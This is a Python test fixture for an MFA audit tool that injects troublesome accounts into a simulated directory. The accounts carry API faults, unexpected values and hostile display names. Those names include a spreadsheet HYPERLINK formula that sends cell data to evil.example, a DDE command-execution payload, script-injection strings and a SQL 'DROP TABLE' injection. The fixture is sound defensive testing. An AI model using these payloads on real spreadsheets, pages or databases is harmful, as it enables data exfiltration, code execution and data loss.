"""The accounts that make trouble, on purpose: names that are code, values nobody expects, reads that fail."""

from __future__ import annotations

from collections.abc import Callable
from datetime import datetime, timedelta

from mfaaudit.simulated.account import ABSENT, Account

Change = Callable[[Account, datetime], None]

VANISHES = "vanishes"
"""Listed, and gone when it is read; from then on the directory's count is one less."""
FORBIDDEN = "forbidden"
"""Its own reads are refused, for good."""
BROKEN = "broken"
"""Its own reads answer 500, for good."""
SHAKY = "shaky"
"""Its own reads answer 500, then 503, then well."""
ONE_SIDED = "one-sided"
"""Its per-user MFA state is not found, for good, while its sign-in preferences are."""
BUSY = "busy"
"""Its own reads answer 429 the first time."""

NAMES: tuple[str | None, ...] = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "<script>window.hacked=1</script>",
    '"><img src=x onerror="window.hacked=1">',
    "</script><script>window.hacked=1</script>",
    "{{7*7}} ${7*7} %s",
    "Robert'); DROP TABLE users;--",
    "control \u0001\u000b\u001f\u0085 characters",
    "right-to-left \u202eevil\u202c override",
    "line\nbreak\r\nand\u2028separator",
    "  spaces around  ",
    "#N/A",
    "TRUE",
    "NULL",
    "",
    None,
    "👩‍🚀 Zoë 𝒜stronaut 🏴‍☠️",
    "nonchar \ufffe\uffff end",
    "W" * 40_000,
)


def make_trouble(accounts: list[Account], now: datetime) -> None:
    """Spreads the troublesome cases over the accounts, as many as there are people to carry them."""
    people = [
        one for one in accounts if one.enabled and one.user_type == "Member" and not one.is_admin and one.department
    ]
    # From the end, so that a small tenant still has ordinary people at its start.
    waiting = list(reversed(people))[: max(0, len(people) - 5)]
    for name in NAMES:
        if not waiting:
            return
        waiting.pop().display_name = name
    for change in _CHANGES:
        if not waiting:
            return
        change(waiting.pop(), now)


def _state(value: object) -> Change:
    def change(account: Account, _: datetime) -> None:
        account.state = value

    return change


def _fault(name: str) -> Change:
    def change(account: Account, _: datetime) -> None:
        account.fault = name

    return change


def _preferred(value: object) -> Change:
    def change(account: Account, _: datetime) -> None:
        account.preferred = value

    return change


def _no_type(account: Account, now: datetime) -> None:
    account.user_type = None
    account.created = now - timedelta(days=4200)


def _not_yet_in_report(account: Account, now: datetime) -> None:
    account.in_report = False
    account.created = now - timedelta(hours=5)


def _new_method(account: Account, _: datetime) -> None:
    account.methods = (*account.methods, "quantumHandshake")


def _no_setting(account: Account, _: datetime) -> None:
    account.system_preferred = None


def _same_name(account: Account, _: datetime) -> None:
    # Principal names differ in case only where people made them so; Graph's ids still differ.
    account.user_principal_name = account.user_principal_name.upper()


_CHANGES: tuple[Change, ...] = (
    _fault(VANISHES),
    _fault(FORBIDDEN),
    _fault(BROKEN),
    _fault(SHAKY),
    _fault(BUSY),
    _fault(VANISHES),
    _state("unknownFutureValue"),
    _state("postponed"),
    _state(None),
    _preferred(""),
    _preferred(ABSENT),
    _preferred("none"),
    _preferred("unknownFutureValue"),
    _no_setting,
    _no_type,
    _not_yet_in_report,
    _new_method,
    _same_name,
    _fault(SHAKY),
    _fault(VANISHES),
    _fault(BUSY),
    _not_yet_in_report,
)
